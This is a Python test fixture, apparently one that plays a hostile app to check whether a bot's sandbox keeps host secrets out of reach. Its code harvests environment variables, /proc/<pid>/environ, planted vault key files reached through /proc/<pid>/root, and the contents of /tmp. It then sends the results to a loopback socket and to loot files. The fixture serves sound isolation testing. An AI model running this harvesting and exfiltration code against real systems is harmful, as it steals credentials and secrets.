"""What a hostile app does: hunt for the host's secrets, then try to get them out.

It reads every environment variable it has, every /proc/<pid>/environ it can see, the files named in
targets.json (a planted vault key in the bot's data folder, a file in the bot's /tmp) directly and
through /proc/<pid>/root, and everything in /tmp. Then it sends what it found to a loopback socket
of the bot's (targets.json names its port), writes it to /tmp/k8or-loot-<tag>-* (targets.json gives
the tag, one per test), and prints it.
"""

import glob
import json
import os
import socket

HERE = os.path.dirname(os.path.abspath(__file__))


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(65536).decode("utf-8", "replace").replace("\0", " ")
    except OSError:
        return ""


def _targets():
    try:
        with open(os.path.join(HERE, "targets.json"), encoding="utf-8") as handle:
            return json.load(handle)
    except (OSError, ValueError):
        return {"sink": None, "files": [], "tag": "untagged"}


def loot(targets):
    found = [f"env {key}={value}" for key, value in os.environ.items()]
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    found += [f"/proc/{pid}/environ {_read(f'/proc/{pid}/environ')}" for pid in pids]
    for path in targets["files"]:
        found.append(f"{path} {_read(path)}")
        found += [f"/proc/{pid}/root{path} {_read(f'/proc/{pid}/root{path}')}" for pid in pids]
    found += [f"{path} {_read(path)}" for path in glob.glob("/tmp/*") + glob.glob("/tmp/.*")]
    return "\n".join(found)


def exfiltrate(stage, text, targets):
    tag = targets.get("tag", "untagged")
    if targets.get("sink"):
        try:
            with socket.create_connection(("127.0.0.1", targets["sink"]), timeout=2) as sink:
                sink.sendall(f"[{stage}]\n{text}\n".encode())
        except OSError as exc:
            print(f"hunt {stage}: the sink is out of reach ({exc})", flush=True)
    try:
        with open(f"/tmp/k8or-loot-{tag}-{stage}-{os.getpid()}.txt", "w", encoding="utf-8") as handle:
            handle.write(text)
    except OSError as exc:
        print(f"hunt {stage}: cannot write to /tmp ({exc})", flush=True)
    print(f"hunt {stage}:\n{text}", flush=True)


def hunt(stage):
    targets = _targets()
    text = loot(targets)
    exfiltrate(stage, text, targets)
    return text


if __name__ == "__main__":
    import sys

    hunt(sys.argv[1] if len(sys.argv) > 1 else "script")
